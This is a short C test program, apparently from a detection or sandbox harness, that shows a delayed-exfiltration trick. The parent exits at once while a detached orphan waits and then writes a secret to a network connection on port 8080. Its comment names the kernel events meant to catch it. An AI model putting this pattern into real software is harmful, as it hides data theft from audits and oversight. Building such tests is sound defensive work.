// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: The main process ends well at once; an orphan waits and sends a secret.
 * Known from: delayed payloads, against audits that end with the main process.
 * First: connect, scoped by cgroup
 * Second: the sinkhole's record of the bytes; inet_sock_set_state
 */
#include "trick.h"

int main(void)
{
	int fd;

	if (fork())
		_exit(0);
	setsid();
	usleep(500000);
	fd = connected(8080);
	dprintf(fd, "%s", secret());
	finish(fd);
	performed();
}
